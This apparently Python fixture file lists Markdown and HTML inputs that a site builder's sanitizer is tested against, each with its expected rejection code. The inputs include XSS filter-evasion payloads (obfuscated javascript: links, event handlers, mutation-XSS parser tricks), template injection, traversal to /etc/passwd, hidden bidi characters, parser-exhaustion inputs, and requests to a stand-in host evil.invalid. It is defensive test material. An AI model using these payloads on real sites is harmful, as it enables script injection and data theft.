"""Texts that would do harm: one way each to get a script, a foreign request or a lie past a builder of sites.

Collected from the OWASP "XSS Filter Evasion Cheat Sheet", the CommonMark and Python-Markdown issue trackers, "Trojan
Source" (CVE-2021-42574), Unicode Technical Report 36 and the documentation of the extensions, and written anew. Every
script calls `pwn()`; every foreign address is below `evil.invalid`.
"""

from __future__ import annotations

from dataclasses import dataclass

PWN = "window.__pwned=1;document.title='pwned'"
EVIL = "https://evil.invalid"


@dataclass(frozen=True)
class Case:
    """A body, the code it is refused with (empty: it does nothing, only shows), and the line, counted in the body."""

    body: str
    code: str
    line: int = 1


def _html(body: str, line: int = 1) -> Case:
    return Case(body, "html", line)


def _link(body: str, line: int = 1) -> Case:
    return Case(body, "link-scheme", line)


def _attribute(body: str, line: int = 1) -> Case:
    return Case(body, "attribute", line)


def _hidden(body: str, line: int = 1) -> Case:
    return Case(body, "hidden-character", line)


CASES: dict[str, Case] = {
    "script": _html(f"Text.\n\n<script>{PWN}</script>", 3),
    "script in capitals": _html(f"<ScRiPt>{PWN}</sCrIpT>"),
    "script without an end": _html(f"<script>{PWN}//"),
    "script from elsewhere": _html(f'<script src="{EVIL}/x.js"></script>'),
    "module": _html(f'<script type="module">{PWN}</script>'),
    "script behind a code span over two lines": _html(f"`a\n<script>{PWN}</script>\n`", 2),
    "picture that fails": _html(f'<img src="x" onerror="{PWN}">'),
    "picture that fails, with a slash for a space": _html(f"<img/src='x'/onerror=\"{PWN}\">"),
    "picture after an odd backtick": _html(f'# a ` b\n`c` <img src="x" onerror="{PWN}"> `d`', 2),
    "picture between the cells of a table": _html(f'| a ` | <img src="x" onerror="{PWN}"> ` |\n| - | - |\n| b | c |'),
    "picture after an escaped backtick": _html(f'\\\\`a` <img src="x" onerror="{PWN}"> `b`'),
    "drawing": _html(f'<svg onload="{PWN}"></svg>'),
    "drawing with a script": _html(f"<svg><script>{PWN}</script></svg>"),
    "formula that changes the parser": _html(f'<math><mtext><table><mglyph><style><img src="x" onerror="{PWN}">'),
    "no script": _html(f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
    "template element": _html(f'<template><img src="x" onerror="{PWN}"></template>'),
    "frame": _html(f'<iframe src="{EVIL}/"></iframe>'),
    "frame with a document": _html(f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
    "object": _html(f'<object data="{EVIL}/x.swf"></object>'),
    "embed": _html(f'<embed src="{EVIL}/x.svg">'),
    "base": _html(f'<base href="{EVIL}/">'),
    "refresh": _html(f'<meta http-equiv="refresh" content="0; url={EVIL}/">'),
    "style sheet": _html(f'<link rel="stylesheet" href="{EVIL}/x.css">'),
    "style": _html(f"<style>body {{ background: url({EVIL}/x.png) }}</style>"),
    "style that shows a picture": _html(f'<p style="background: url({EVIL}/x.png)">Text</p>'),
    "form": _html(f'<form action="{EVIL}/"><input name="name"><button>Send</button></form>'),
    "button": _html(f'<button autofocus onfocus="{PWN}">x</button>'),
    "video": _html(f'<video src="{EVIL}/x.mp4" onerror="{PWN}"></video>'),
    "details that open": _html(f'<details open ontoggle="{PWN}">x</details>'),
    "backticks that are none in details": _html(f'<details>\n`<img src="x" onerror="{PWN}">`\n</details>', 2),
    "address that is an element in details": _html(f"<details><http://a/onmouseover={PWN}>x</details>"),
    "allowed element with a handler": _html(f'<kbd onmouseover="{PWN}">x</kbd>'),
    "element of one's own": _html(f'<x-y onclick="{PWN}">x</x-y>'),
    "element named like an address": _html(f'<http:x style="animation: x" onanimationstart="{PWN}">x</http:x>'),
    "link as HTML": _html(f'<a href="javascript:{PWN}">x</a>'),
    "processing instruction": _html(f"<?xml-stylesheet href='{EVIL}/x.css'?>"),
    "character data": _html(f"<![CDATA[<script>{PWN}</script>]]>"),
    "declaration": _html(f'<!ENTITY x SYSTEM "{EVIL}/x">'),
    "block between fences that are none": _html(f"``` a=<\n<script>{PWN}</script>\n```", 2),
    "block between fences of two lengths": _html(f"````\n```\n\n<script>{PWN}</script>\n\n```\n~~~~", 4),
    "comment": Case("<!-- The editor's telephone: +7 701 000 00 00 -->", "comment"),
    "comment in a sentence": Case("A word <!-- of a victim --> more.", "comment"),
    "comment that a browser ends early": Case(f"<!--> <script>{PWN}</script> -->", "comment"),
    "javascript link": _link(f"[x](javascript:{PWN})"),
    "javascript link in capitals": _link(f"[x](JaVaScRiPt:{PWN})"),
    "javascript link between angle brackets": _link(f"[x](<javascript:{PWN}>)"),
    "javascript link with a title": _link(f'[x](javascript:{PWN} "title")'),
    "javascript link over two lines": _link(f"[x](java\nscript:{PWN})"),
    "javascript link with a tab": _link(f"[x](java\tscript:{PWN})"),
    "javascript link with an entity": _link(f"[x](&#106;avascript:{PWN})"),
    "javascript link with a long entity": _link(f"[x](&#x000006a;avascript&#58;{PWN})"),
    "javascript link with a named entity": _link(f"[x](java&Tab;script&colon;{PWN})"),
    "javascript link with percents": _link(f"[x](%6aavascript%3A{PWN})"),
    "javascript link with backslashes": _link(f"[x](java\\script\\:{PWN})"),
    "javascript link from code": _link(f"[x](`javascript:{PWN}`)"),
    "javascript reference": _link(f"[x][y]\n\n[y]: javascript:{PWN}", 3),
    "javascript reference on the next line": _link(f"[x][y]\n\n[y]:\n    javascript:{PWN}", 3),
    "javascript reference in a quote": _link(f"> [x][y]\n>\n> [y]: <javascript:{PWN}>", 3),
    "javascript by itself": _link(f"<javascript:{PWN}>"),
    "javascript picture": _link(f"![x](javascript:{PWN})"),
    "vbscript link": _link("[x](vbscript:MsgBox(1))"),
    "data link": _link(f"[x](data:text/html,<script>{PWN}</script>)"),
    "data link in base 64": _link("[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)"),
    "data picture": _link("![x](data:image/svg+xml;base64,PHN2Zy8+)"),
    "blob link": _link(f"[x](blob:{EVIL}/1)"),
    "file link": _link("[x](file:///etc/passwd)"),
    "view-source link": _link(f"[x](view-source:{EVIL}/)"),
    "link to another host without saying so": _link("[x](//evil.invalid/)"),
    "link to another host with backslashes": _link("[x](/\\evil.invalid/)"),
    "handler on a link": _attribute(f"[x](#y){{: onmouseover={PWN} }}"),
    "handler without a colon": _attribute(f"*x*{{onclick={PWN}}}"),
    "handler on a heading": _attribute(f'## Heading {{: .note onclick="{PWN}" }}'),
    "handler on a paragraph": _attribute(f"Text\n{{: onclick={PWN} }}", 2),
    "handler behind a brace in quotes": _attribute(f'*x*{{: title="}}" onclick={PWN} }}'),
    "handler on a block of code": _attribute(f"```{{ .python onclick={PWN} }}\nx\n```"),
    "style of a picture": _attribute(f"![x](hall.png){{: style=background:url({EVIL}/x.png) }}"),
    "more sources of a picture": _attribute(f"![x](hall.png){{: srcset={EVIL}/x.png }}"),
    "more sources around a picture": _html(f'<picture><source srcset="{EVIL}/x.png"><img src="hall.png"></picture>'),
    "another address by attribute": _attribute(f"[x](#y){{: href=javascript:{PWN} }}"),
    "a new window": _attribute(f"[x]({EVIL}/){{: target=_blank ping={EVIL}/ }}"),
    "inclusion of a file": Case('--8<-- "../../mkdocs.yml"', "directive"),
    "inclusion of an address": Case(f'-8<- "{EVIL}/x"', "directive"),
    "inclusion of another tool": Case("{!../../mkdocs.yml!}", "directive"),
    "template": Case("{{ config.__class__.__init__.__globals__ }}", "directive"),
    "template that includes": Case("{% include '../../mkdocs.yml' %}", "directive"),
    "reading turned round": _hidden("A \u202eterces\u202c word."),
    "reading turned round by an isolate": _hidden("A \u2066word\u2069."),
    "letters without width": _hidden("One wo\u200brd and\u200d one\u2060."),
    "words in tags": _hidden("Text\U000e0068\U000e0069."),
    "null": _hidden("A \x00 null."),
    "placeholder of Markdown": _hidden("A \x02wzxhzdk:0\x03."),
    "escape of a terminal": _hidden("A \x1b[31mred\x1b[0m word."),
    "hidden letter as an entity": _hidden("A &#x202e;word&zwnj;."),
    "blank letter": _hidden("A\u3164word."),
    "lists in lists": Case("\n".join(f"{'    ' * depth}- a" for depth in range(100)), "markup-heavy", 12),
    "quotes in quotes": Case("> " * 500 + "a", "markup-heavy"),
    "brackets": Case("[" * 20_000, "markup-heavy"),
    "brackets apart": Case("[a](" * 5_000, "markup-heavy"),
    "footnotes": Case("[^1]" * 3_000 + "\n\n[^1]: a", "markup-heavy"),
    "fences": Case("\n".join("`" * (3 + size) for size in range(300)), "markup-heavy"),
    "definitions": Case("a\n: b\n" * 1_000, "markup-heavy", 2),
    "stars": Case("*" * 5_000 + "a" + "*" * 5_000, "markup-heavy"),
    "a book": Case("Word. " * 200_000, "file-large"),
    "script in code": Case(f"`<script>{PWN}</script>`", ""),
    "script in a block of code": Case(f"```html\n<script>{PWN}</script>\n<!-- x -->\n{{{{ x }}}}\n```", ""),
    "script in entities": Case(f"&lt;script&gt;{PWN}&lt;/script&gt;", ""),
    "picture from elsewhere": Case(f"![x]({EVIL}/x.png)", "picture-foreign"),
    "picture from elsewhere by reference": Case(f"![x][Y z]\n\n[y  z]: {EVIL}/x.png", "picture-foreign"),
    "picture from elsewhere by its own name": Case(f"Text.\n\n![y][]\n\n[y]: <{EVIL}/x.png> 'x'", "picture-foreign", 3),
    "file from outside": Case("[x](../../../../mkdocs.yml) ![x](../../../../../etc/passwd)", ""),
}
